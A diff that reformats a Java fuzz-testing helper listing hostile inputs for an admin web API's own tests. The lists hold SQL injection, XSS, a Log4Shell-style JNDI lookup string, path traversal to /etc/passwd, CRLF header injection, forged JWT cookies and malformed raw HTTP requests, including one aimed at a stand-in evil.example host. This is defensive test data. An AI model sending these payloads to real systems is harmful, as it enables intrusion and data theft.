@@ -7,36 +7,47 @@ import java.util.List;
 import java.util.Random;
 
 /**
- * The hostile values the fuzz tests send: for path variables, query parameters, JSON fields and
- * whole bodies, content types, headers and cookies. Values are plain data; where they go and how
- * they are encoded is up to the test. None contains a string the tests look for as a leak of
- * internals (a class or package name, SQL, a file path), so an echoed input is never mistaken for one.
+ * The hostile values the fuzz tests send: for path variables, query parameters, JSON
+ * fields and whole bodies, content types, headers and cookies. Values are plain data;
+ * where they go and how they are encoded is up to the test. None contains a string the
+ * tests look for as a leak of internals (a class or package name, SQL, a file path), so
+ * an echoed input is never mistaken for one.
  */
 final class FuzzInputs {
 
 	private FuzzInputs() {
 	}
 
-	/** Decoded values for query parameters (the test percent-encodes them, so they reach the application). */
+	/**
+	 * Decoded values for query parameters (the test percent-encodes them, so they reach
+	 * the application).
+	 */
 	static final List<String> QUERY_VALUES = List.of("", " ", "-1", "0", "1", "-2147483649", "2147483648",
-			"9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999",
-			"1e309", "-1e309", "NaN", "Infinity", "0x1F", "1.5", "1,2", "true", "yes", "null", "undefined", "[]", "{}",
-			"abc", "\u0000", "a\u0000b", "\r\nX-Injected: 1", "'", "\"", "' OR '1'='1", "1; DROP TABLE admins; --",
+			"9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999", "1e309",
+			"-1e309", "NaN", "Infinity", "0x1F", "1.5", "1,2", "true", "yes", "null", "undefined", "[]", "{}", "abc",
+			"\u0000", "a\u0000b", "\r\nX-Injected: 1", "'", "\"", "' OR '1'='1", "1; DROP TABLE admins; --",
 			"<script>alert(1)</script>", "${jndi:ldap://x/a}", "../../../../etc/passwd", "..\\..\\windows", "%", "%00",
 			"%zz", "\uFFFF", "\uD83D\uDE00", "\u202E", "\uD800", "\u00e4".repeat(1000), "x".repeat(3000),
-			"2026-13-45T25:61:61Z", "9999-12-31T23:59:59Z", "+1000000000-01-01T00:00:00Z", "-1000000000-01-01T00:00:00Z",
-			"2026-01-01", "1-1", "0-0", "-1-1", "99999999999999999999-1", "1-99999999999999999999", "id;DELETE", "ID",
-			"created_at desc", "enqueued ", "FAILED", "deleted", "ASC", "desc;", "error,warn", "debug,info,,,unknown");
+			"2026-13-45T25:61:61Z", "9999-12-31T23:59:59Z", "+1000000000-01-01T00:00:00Z",
+			"-1000000000-01-01T00:00:00Z", "2026-01-01", "1-1", "0-0", "-1-1", "99999999999999999999-1",
+			"1-99999999999999999999", "id;DELETE", "ID", "created_at desc", "enqueued ", "FAILED", "deleted", "ASC",
+			"desc;", "error,warn", "debug,info,,,unknown");
 
-	/** Query values written into the request target as they are (broken percent-encoding, characters HTTP forbids). */
-	static final List<String> RAW_QUERY_VALUES = List.of("%", "%0", "%zz", "%00", "%C3%28", "%FF%FE", "%E2%82",
-			"a=b=c", "&&&", "=", "+", "%2B", ";jsessionid=1", "a%", "\u00e4", "{", "|", "\"", "<", "^", "`", "\\",
-			"%u0041", "%%%");
+	/**
+	 * Query values written into the request target as they are (broken percent-encoding,
+	 * characters HTTP forbids).
+	 */
+	static final List<String> RAW_QUERY_VALUES = List.of("%", "%0", "%zz", "%00", "%C3%28", "%FF%FE", "%E2%82", "a=b=c",
+			"&&&", "=", "+", "%2B", ";jsessionid=1", "a%", "\u00e4", "{", "|", "\"", "<", "^", "`", "\\", "%u0041",
+			"%%%");
 
 	/** Few values for the parameters every route is tried with, declared or not. */
 	static final List<String> COMMON_QUERY_VALUES = List.of("-1", "\u0000", "x".repeat(3000));
 
-	/** Parameter names every route gets (the stream endpoints read some without declaring them). */
+	/**
+	 * Parameter names every route gets (the stream endpoints read some without declaring
+	 * them).
+	 */
 	static final List<String> COMMON_QUERY_NAMES = List.of("since", "level", "search", "backlog", "limit", "offset",
 			"sort", "order");
 
@@ -44,11 +55,15 @@ final class FuzzInputs {
 	static final List<String> PATH_VALUES = List.of("-1", "0", "-0", "9223372036854775807", "9223372036854775808",
 			"-9223372036854775809", "99999999999999999999999", "1.5", "1e3", "0x10", "abc", "null", "undefined", " ",
 			"\u0000", "..", ".", "a/b", "a\\b", "x".repeat(4000), "\uD83D\uDE00", "\u00e4", "\u202E", "\uFFFF", "'",
-			"\"", "<script>", "' OR 1=1 --", ";", "a;b=c", "%", "*", "~", "$", "{}", "00000000-0000-0000-0000-000000000000",
-			"not-a-uuid", "ffffffff-ffff-ffff-ffff-fffffffffffff", "vigil-20261201-000000-000.db", "vigil.log",
-			"vigil.log.", "VIGIL.LOG", "vigil.log/../vigil.log", "signing.key", "../vigil.db", "CON", "nul");
+			"\"", "<script>", "' OR 1=1 --", ";", "a;b=c", "%", "*", "~", "$", "{}",
+			"00000000-0000-0000-0000-000000000000", "not-a-uuid", "ffffffff-ffff-ffff-ffff-fffffffffffff",
+			"vigil-20261201-000000-000.db", "vigil.log", "vigil.log.", "VIGIL.LOG", "vigil.log/../vigil.log",
+			"signing.key", "../vigil.db", "CON", "nul");
 
-	/** Path variable values written as they are: encoded slashes, double encoding, NUL, overlong UTF-8. */
+	/**
+	 * Path variable values written as they are: encoded slashes, double encoding, NUL,
+	 * overlong UTF-8.
+	 */
 	static final List<String> RAW_PATH_VALUES = List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e", "%252e%252e%252f",
 			"%c0%ae%c0%ae%c0%af", "%00", "%ff", "%", "%zz", "..%5c..%5c", "%2F", "%5C", "..;", "a;jsessionid=1", ".%2e",
 			"%u002e", "%e2%80%ae", "\u00e9");
@@ -56,14 +71,16 @@ final class FuzzInputs {
 	/** JSON literals for a single field: wrong types, edge numbers, hostile strings. */
 	static List<String> fieldValues() {
 		return List.of("null", "true", "false", "0", "-1", "1", "1.5", "-0.0", "1e400", "-1e400", "9223372036854775808",
-				"-9223372036854775809", "123456789012345678901234567890", "9".repeat(5000), "\"\"", "\" \"", "\"\\u0000\"",
-				"\"\\ud800\"", "\"\\udfff\\ud800\"", "\"\uD83D\uDE00\"", "\"\u202E\"", "\"" + "a".repeat(100_000) + "\"",
-				"\"<script>\"", "\"' OR 1=1 --\"", "\"${jndi:ldap://x/a}\"", "\"../../etc/passwd\"", "[]", "[1,\"a\",null]",
-				"{}", "{\"a\":{\"b\":[]}}", "[".repeat(2000) + "]".repeat(2000), "\"2026-99-99\"", "NaN", "-", "\"\\x41\"",
-				"'single'", "\"unterminated", "01", "+1", ".5", "1.", "0x10", "\"a\"\"b\"",
-				// Past bcrypt's 72 bytes (in characters, or only in UTF-8 bytes), and control characters.
-				"\"" + "p".repeat(100) + "\"", "\"" + "\u00e4".repeat(40) + "\"", "\"" + "\uD83D\uDE00".repeat(19) + "\"",
-				"\"pass\\u0001\\u0007\\u001f\\u007f\\t\\r\\nword\"");
+				"-9223372036854775809", "123456789012345678901234567890", "9".repeat(5000), "\"\"", "\" \"",
+				"\"\\u0000\"", "\"\\ud800\"", "\"\\udfff\\ud800\"", "\"\uD83D\uDE00\"", "\"\u202E\"",
+				"\"" + "a".repeat(100_000) + "\"", "\"<script>\"", "\"' OR 1=1 --\"", "\"${jndi:ldap://x/a}\"",
+				"\"../../etc/passwd\"", "[]", "[1,\"a\",null]", "{}", "{\"a\":{\"b\":[]}}",
+				"[".repeat(2000) + "]".repeat(2000), "\"2026-99-99\"", "NaN", "-", "\"\\x41\"", "'single'",
+				"\"unterminated", "01", "+1", ".5", "1.", "0x10", "\"a\"\"b\"",
+				// Past bcrypt's 72 bytes (in characters, or only in UTF-8 bytes), and
+				// control characters.
+				"\"" + "p".repeat(100) + "\"", "\"" + "\u00e4".repeat(40) + "\"",
+				"\"" + "\uD83D\uDE00".repeat(19) + "\"", "\"pass\\u0001\\u0007\\u001f\\u007f\\t\\r\\nword\"");
 	}
 
 	/** Values for the {@code ids} list of bulk endpoints. */
@@ -82,7 +99,10 @@ final class FuzzInputs {
 				"[\"zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz\"]", "[1,1,1]", "[\"\\u0000\"]");
 	}
 
-	/** Whole bodies derived from a valid one: malformed, truncated, deep, huge, badly encoded. */
+	/**
+	 * Whole bodies derived from a valid one: malformed, truncated, deep, huge, badly
+	 * encoded.
+	 */
 	static List<byte[]> bodies(String valid, Random random) {
 		List<byte[]> bodies = new ArrayList<>();
 		for (String text : List.of("", " ", "{", "}", "[", "]", "nul", "null", "true", "1", "\"s\"", "[]", "{}", "[{}]",
@@ -124,16 +144,22 @@ final class FuzzInputs {
 		return bodies;
 	}
 
-	/** Content types sent with an otherwise valid body; null means no Content-Type header at all. */
+	/**
+	 * Content types sent with an otherwise valid body; null means no Content-Type header
+	 * at all.
+	 */
 	static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
 			"application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "multipart/form-data",
 			"multipart/mixed; boundary=\"", "application/json; charset=UTF-16", "application/json; charset=nope",
-			"application/json; charset=", "application/json; charset=\"utf-8", "garbage", "application/", "/json", "*/*",
-			"application/*", "application/json, text/plain", "application/json;" + "a=b;".repeat(500), "text/event-stream",
-			"application/problem+json", "application/merge-patch+json", "APPLICATION/JSON", "application/json;q=abc",
-			"application/json; charset=ISO-8859-1", "application/json; boundary=\u00ff");
+			"application/json; charset=", "application/json; charset=\"utf-8", "garbage", "application/", "/json",
+			"*/*", "application/*", "application/json, text/plain", "application/json;" + "a=b;".repeat(500),
+			"text/event-stream", "application/problem+json", "application/merge-patch+json", "APPLICATION/JSON",
+			"application/json;q=abc", "application/json; charset=ISO-8859-1", "application/json; boundary=\u00ff");
 
-	/** Single request headers with hostile values (name, value; values are sent as ISO-8859-1 bytes). */
+	/**
+	 * Single request headers with hostile values (name, value; values are sent as
+	 * ISO-8859-1 bytes).
+	 */
 	static List<String[]> headers() {
 		List<String[]> headers = new ArrayList<>();
 		for (String accept : List.of("garbage", "*/*;q=abc", "text/html", "application/xml", "application/json;q=0", "",
@@ -186,36 +212,38 @@ final class FuzzInputs {
 	}
 
 	/**
-	 * Cookie header values. Placeholders are filled in by the test with the fuzzing admin's real
-	 * tokens: {@code {{access}}}, {@code {{refresh}}}, {@code {{xsrf}}}, {@code {{access-tampered}}}.
+	 * Cookie header values. Placeholders are filled in by the test with the fuzzing
+	 * admin's real tokens: {@code {{access}}}, {@code {{refresh}}}, {@code {{xsrf}}},
+	 * {@code {{access-tampered}}}.
 	 */
 	static List<String> cookies(List<String> forgedTokens) {
-		List<String> cookies = new ArrayList<>(List.of("", "garbage", "=", ";;;", "access_token=", "access_token=garbage",
-				"access_token=a.b.c", "access_token={{access-tampered}}", "access_token={{access}}x",
-				"access_token=\"{{access}}\"", "access_token=" + "A".repeat(7000),
+		List<String> cookies = new ArrayList<>(List.of("", "garbage", "=", ";;;", "access_token=",
+				"access_token=garbage", "access_token=a.b.c", "access_token={{access-tampered}}",
+				"access_token={{access}}x", "access_token=\"{{access}}\"", "access_token=" + "A".repeat(7000),
 				"access_token={{access}}; access_token=garbage", "access_token=garbage; access_token={{access}}",
 				"access_token=eyJhbGciOiJIUzI1NiJ9..", "access_token=" + "e30.".repeat(3) + "e30",
 				"access_token=\u00ff\u00fe", "refresh_token=garbage; access_token={{access}}",
 				"refresh_token=" + "0".repeat(64), "refresh_token={{refresh}}; refresh_token={{refresh}}",
-				"access_token={{access}}; XSRF-TOKEN=garbage", "\u0001=\u0002", "$Version=1; access_token={{access}}; $Path=/",
-				"access_token={{access}},other=1", "a=b; =c; d", "\u00e4=1", "access_token = {{access}}",
-				"access_token={{access}}; " + "c=v; ".repeat(300), "c=" + "v".repeat(9000)));
+				"access_token={{access}}; XSRF-TOKEN=garbage", "\u0001=\u0002",
+				"$Version=1; access_token={{access}}; $Path=/", "access_token={{access}},other=1", "a=b; =c; d",
+				"\u00e4=1", "access_token = {{access}}", "access_token={{access}}; " + "c=v; ".repeat(300),
+				"c=" + "v".repeat(9000)));
 		for (String token : forgedTokens) {
 			cookies.add("access_token=" + token);
 		}
 		return cookies;
 	}
 
-	/** Whole requests Tomcat must refuse (or survive) before any application code runs; {@code %d}: the port. */
+	/**
+	 * Whole requests Tomcat must refuse (or survive) before any application code runs;
+	 * {@code %d}: the port.
+	 */
 	static List<String> rawRequests() {
-		return List.of("GET /api/admin/profile HTTP/1.1\r\n\r\n",
-				"GET /api/admin/profile HTTP/1.0\r\n\r\n",
+		return List.of("GET /api/admin/profile HTTP/1.1\r\n\r\n", "GET /api/admin/profile HTTP/1.0\r\n\r\n",
 				"GET /api/admin/profile HTTP/2.0\r\nHost: localhost\r\n\r\n",
 				"GET /api/admin/profile HTTP/9.9\r\nHost: localhost\r\n\r\n",
-				"GET  /api/admin/profile HTTP/1.1\r\nHost: localhost\r\n\r\n",
-				"GET /api/admin/profile\r\n\r\n",
-				"GARBAGE\r\n\r\n",
-				"\r\n\r\n\r\n",
+				"GET  /api/admin/profile HTTP/1.1\r\nHost: localhost\r\n\r\n", "GET /api/admin/profile\r\n\r\n",
+				"GARBAGE\r\n\r\n", "\r\n\r\n\r\n",
 				"GET http://evil.example/api/admin/profile HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
 				"OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
 				"GET /api/admin/profile HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
@@ -240,7 +268,8 @@ final class FuzzInputs {
 				"GET /api/admin/admins%5c1 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
 				"GET /api/admin/admins/1%00 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
 				"GET /api/" + "a".repeat(10_000) + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
-				"GET /api/admin/profile HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + "X-H: v\r\n".repeat(150) + "\r\n",
+				"GET /api/admin/profile HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + "X-H: v\r\n".repeat(150)
+						+ "\r\n",
 				"GET /api/admin/profile HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n: empty-name\r\n\r\n",
 				"GET /api/admin/profile HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nNoColon\r\n\r\n",
 				"GET /api/admin/profile HTTP/1.1\r\n Host: localhost\r\nConnection: close\r\n\r\n",
@@ -284,7 +313,10 @@ final class FuzzInputs {
 		return out.toByteArray();
 	}
 
-	/** The valid body with {@code bad} bytes inside its first string value (or appended when it has none). */
+	/**
+	 * The valid body with {@code bad} bytes inside its first string value (or appended
+	 * when it has none).
+	 */
 	private static byte[] withInvalidUtf8(String valid, byte[] bad) {
 		int quote = valid.indexOf(":\"");
 		if (quote < 0) {
